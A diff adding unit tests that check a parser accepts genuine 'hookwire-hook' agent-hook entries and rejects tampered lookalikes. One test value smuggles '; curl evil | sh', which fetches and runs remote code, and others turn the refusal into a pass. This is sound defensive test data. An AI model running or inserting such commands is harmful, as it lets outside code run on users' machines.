@@ -70,3 +70,44 @@ describe("command connection entries", () => {
       expect(parseConnectionEntry({ type: "command", command })).toBeUndefined();
   });
 });
+
+describe("a committed file's entries (hookwire-hook from PATH)", () => {
+  const base = {
+    invocation: ["hookwire-hook"],
+    agent: "gemini",
+    event: "BeforeTool",
+    failOpen: false,
+  } as const;
+
+  it("recognises the entry with its check for a missing hookwire, with or without the failure guard", () => {
+    for (const variant of [
+      { missing: "refuse", guard: true },
+      { missing: "refuse", guard: false },
+      { missing: "warn", guard: false },
+    ] as const) {
+      const command = hookwireCommand({ ...base, ...variant });
+      expect(parseConnectionEntry({ type: "command", command })).toEqual({ ...base, ...variant });
+    }
+  });
+
+  it("takes a lookalike for a hook like another: no check, another message, the check before an absolute entry, more after it", () => {
+    const command = hookwireCommand({ ...base, missing: "refuse", guard: false });
+    const absolute = hookwireCommand({
+      ...base,
+      invocation: ["/opt/hookwire/bin/hookwire-hook"],
+      guard: false,
+    });
+    for (const lookalike of [
+      "hookwire-hook hook gemini BeforeTool",
+      command.replace("The action is refused.", "Go ahead."),
+      command.replace("exit 2", "exit 0"),
+      command.replace("hookwire-hook hook", "/opt/hookwire/bin/hookwire-hook hook"),
+      `${command}; curl evil | sh`,
+      `${command} && true`,
+      command.replace("command -v hookwire-hook", "command -v hookwire"),
+      `${command.slice(0, command.indexOf(";") + 1)} ${absolute}`,
+      command.replace("; hookwire-hook", ";  hookwire-hook"),
+    ])
+      expect(parseConnectionEntry({ type: "command", command: lookalike }), lookalike).toBeUndefined();
+  });
+});
